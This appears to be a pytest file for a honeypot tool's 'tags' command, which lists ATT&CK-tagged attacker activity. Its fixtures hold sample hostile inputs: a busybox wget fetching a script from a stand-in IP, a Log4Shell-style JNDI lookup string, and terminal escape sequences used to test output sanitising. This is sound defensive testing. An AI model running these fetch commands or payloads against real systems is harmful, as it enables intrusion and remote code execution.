# SPDX-License-Identifier: AGPL-3.0-or-later
"""`decnet-ttp tags`: the evidence, its order, its forms, and that it is safe to look at."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from google.protobuf.timestamp_pb2 import Timestamp

from decnet_ttp.v1.directory_service_pb2 import Attacker
from decnet_ttp.v1.scope_pb2 import Anchor, FleetScope, Scope
from decnet_ttp.v1.tag_pb2 import CommandEvidence, Evidence, HttpRequestEvidence, Tag
from decnet_ttp.v1.tag_store_service_pb2 import ListTagsRequest

ATTACKER = "6a7f3a4e-0a3b-5a52-93a5-6f0c3f1f7b11"
HOSTILE = "echo \x1b]0;owned\x07\x9b31m\u202edc\r\nwget http://203.0.113.9/x\ty"

Make = Callable[..., Tag]


@pytest.fixture
def tag(at: Callable[[str], Timestamp]) -> Make:
    """Make a tag stored at a second of one minute."""

    def make(technique: str, second: int, command: str = "id", *matched: str) -> Tag:
        parent, dot, _ = technique.partition(".")
        return Tag(
            uuid=f"uuid-{second}",
            anchor=Anchor(attacker_uuid=ATTACKER),
            session_id="a1b2c3d4e5f6",
            source_kind="command",
            technique_id=parent,
            sub_technique_id=technique if dot else "",
            rule_id="R0014",
            rule_version=2,
            confidence=0.9,
            evidence=Evidence(
                command=CommandEvidence(command_text=command, matched_tokens=matched)
            ),
            observe_time=at(f"2026-03-01T10:00:{second:02}Z"),
            create_time=at(f"2026-03-02T00:00:{second:02}Z"),
        )

    return make


async def test_piped_tags_carry_rule_version_source_and_evidence(
    piped: Any, tag_store: Any, tag: Make
) -> None:
    tag_store.tags = [tag("T1059.004", 5, "sh -c id", "sh -c")]
    tag_store.tags.append(
        Tag(
            anchor=Anchor(identity_uuid="77777777-0000-4000-8000-000000000000"),
            technique_id="T1190",
            source_kind="http_request",
            rule_id="R0007",
            rule_version=1,
            confidence=0.7,
            create_time=tag("T1190", 1).create_time,
            evidence=Evidence(
                http_request=HttpRequestEvidence(
                    method="GET",
                    raw_url="/?x=${jndi:ldap://a}",
                    user_agent="curl",
                    matched_tokens=["${jndi:"],
                )
            ),
        )
    )
    done = await piped("tags")
    assert (done.code, done.err) == (0, "")
    assert [line.split("\t") for line in done.lines] == [
        [
            "time (UTC)",
            "technique",
            "rule",
            "version",
            "confidence",
            "attacker",
            "session",
            "source",
            "evidence",
            "effective",
            "adjustments",
        ],
        [
            "2026-03-01 10:00:05",
            "T1059.004",
            "R0014",
            "2",
            "0.90",
            ATTACKER,
            "a1b2c3d4e5f6",
            "command",
            "sh -c id",
            "0.90",
            "",
        ],
        [
            "2026-03-02 00:00:01",
            "T1190",
            "R0007",
            "1",
            "0.70",
            "77777777-0000-4000-8000-000000000000",
            "",
            "http_request",
            "GET /?x=${jndi:ldap://a}",
            "0.70",
            "",
        ],
    ]


def adjusted(tag: Tag) -> Tag:
    """Return a tag that a verdict made surer."""
    tag.effective_confidence = 0.95
    tag.adjustments.add(
        rule_id="R0058",
        rule_version=1,
        amount=0.05,
        reason="aggregate verdict: malicious",
        source_kind="intel",
        source_id="intel:7:abc",
    )
    return tag


async def test_adjusted_confidence_is_shown_with_its_reason(
    piped: Any, on_terminal: Any, tag_store: Any, tag: Make
) -> None:
    why = "R0058 v1 +0.05 aggregate verdict: malicious"
    tag_store.tags = [adjusted(tag("T1105", 5))]
    done = await piped("tags")
    fields = dict(zip(*(line.split("\t") for line in done.lines), strict=True))
    assert (fields["confidence"], fields["effective"]) == ("0.90", "0.95")
    assert fields["adjustments"] == f"{why} (intel:7:abc)"
    done = await on_terminal("tags", columns=160)
    assert "0.95 (0.90)" in done.text
    assert why in done.text


async def test_a_terminal_shows_the_address_and_marks_what_matched(
    on_terminal: Any, tag_store: Any, tag: Make
) -> None:
    tag_store.tags = [tag("T1105", 5, "cd /tmp; busybox wget http://203.0.113.9/x.sh", "wget http")]
    tag_store.attackers = [Attacker(uuid=ATTACKER, ip="203.0.113.77")]
    done = await on_terminal("tags", columns=80)
    assert done.code == 0
    heading, first, evidence = done.text.splitlines()
    assert heading.split() == [
        *["time", "(UTC)", "technique", "rule", "conf", "attacker", "session"]
    ]
    assert first.split() == [
        *["2026-03-01", "10:00:05", "T1105", "R0014", "v2", "0.90", "203.0.113.77", "a1b2c3d4e5f6"]
    ]
    assert evidence == "    command: cd /tmp; busybox wget http://203.0.113.9/x.sh"
    assert "busybox \x1b[1;31mwget http\x1b[0m://203.0.113.9" in done.out


async def test_a_wide_terminal_names_the_technique(
    on_terminal: Any, tag_store: Any, tag: Make
) -> None:
    tag_store.tags = [tag("T1059.004", 5)]
    tag_store.tags[0].technique_name = "Command and Scripting Interpreter"
    tag_store.tags[0].sub_technique_name = "Command and Scripting Interpreter: Unix Shell"
    wide = await on_terminal("tags", columns=160)
    assert "T1059.004 Command and Scripting Interpreter: Unix Shell  R0014 v2" in wide.text
    less = await on_terminal("tags", columns=120)
    assert "T1059.004 Command and Scripting Inter…  R0014 v2" in less.text
    assert max(map(len, less.text.splitlines())) <= 120


async def test_a_long_command_is_cut_to_one_line_around_its_match(
    on_terminal: Any, tag_store: Any, tag: Make
) -> None:
    tag_store.tags = [tag("T1105", 5, "x" * 900 + " NEEDLE " + "y" * 900, "NEEDLE")]
    done = await on_terminal("tags", columns=80)
    *_, evidence = done.text.splitlines()
    assert len(evidence) == 80
    assert re.fullmatch(r"    command: …x+ NEEDLE y+…", evidence)


@pytest.mark.parametrize("form", ["terminal", "piped", "json"])
async def test_no_control_character_of_an_attacker_reaches_the_output(
    on_terminal: Any, piped: Any, tag_store: Any, tag: Make, form: str
) -> None:
    tag_store.tags = [tag("T1105", 5, HOSTILE, "wget \x1b[2J", "wget")]
    tag_store.tags[0].session_id = "s\x1b[2J\n"
    adjusted(tag_store.tags[0]).adjustments[0].source_id = "i\x1b[2J\n\t"
    match form:
        case "terminal":
            done = await on_terminal("tags", columns=200)
            shown = done.text
        case "piped":
            shown = (await piped("tags")).out
            assert [line.count("\t") for line in shown.splitlines()] == [10, 10]
        case _:
            done = await piped("tags", "--json")
            shown = done.out
            assert done.json()[0]["evidence"]["command"]["command_text"] == HOSTILE
    assert [char for char in shown if not char.isprintable() and char not in "\n\t"] == []
    if form != "json":
        assert "echo ·]0;owned··31m·dc··wget http://203.0.113.9/x·y" in shown


async def test_several_techniques_are_merged_newest_first(
    piped: Any, tag_store: Any, tag: Make
) -> None:
    tag_store.tags = [
        tag("T1105", 9),
        tag("T1059.004", 8),
        tag("T1082", 7),
        tag("T1105", 3),
        tag("T1059.006", 2),
        tag("T1105", 1),
    ]
    tag_store.page_rows = 1
    done = await piped("tags", "--technique", "t1059.004", "T1105", "--json")
    assert [row["uuid"] for row in done.json()] == ["uuid-9", "uuid-8", "uuid-3", "uuid-1"]
    done = await piped("tags", "-t", "T1059,T1059.004", "-t", "T1105", "--limit", 3, "--json")
    assert [row["uuid"] for row in done.json()] == ["uuid-9", "uuid-8", "uuid-3"]
    assert done.err == "the first 3 tags; there are more, --limit 0 shows all\n"


async def test_options_become_the_request(piped: Any, tag_store: Any) -> None:
    done = await piped(
        *("tags", "--technique", "T1059.004", "--session", "s", "--tactic", "ta0002"),
        *("--rule", "R0014", "--limit", 7),
    )
    assert (done.code, done.out) == (0, "")
    assert done.err == "no tags: nothing of this scope has been tagged so\n"
    assert tag_store.requests == [
        ListTagsRequest(
            scope=Scope(session_id="s"),
            technique_id="T1059",
            sub_technique_id="T1059.004",
            tactic="TA0002",
            rule_id="R0014",
            page_size=7,
        )
    ]


async def test_no_technique_asks_for_all(piped: Any, tag_store: Any) -> None:
    done = await piped("tags", "--json")
    assert (done.code, done.out, done.err) == (0, "[]\n", "")
    assert tag_store.requests == [ListTagsRequest(scope=Scope(fleet=FleetScope()), page_size=100)]


async def test_limit_0_follows_every_page(piped: Any, tag_store: Any, tag: Make) -> None:
    tag_store.tags = [tag("T1105", second) for second in range(50, 0, -1)]
    tag_store.page_rows = 20
    done = await piped("tags", "--limit", 0, "--json")
    assert [row["uuid"] for row in done.json()] == [f"uuid-{n}" for n in range(50, 0, -1)]
    assert [request.page_token for request in tag_store.requests] == ["", "20", "40"]


async def test_what_is_no_technique_is_wrong_usage(piped: Any, tag_store: Any) -> None:
    done = await piped("tags", "--technique", "TA0002")
    assert (done.code, done.out, tag_store.requests) == (2, "", [])
    assert "TA0002 is no technique; they look like T1059 or T1059.004" in done.err
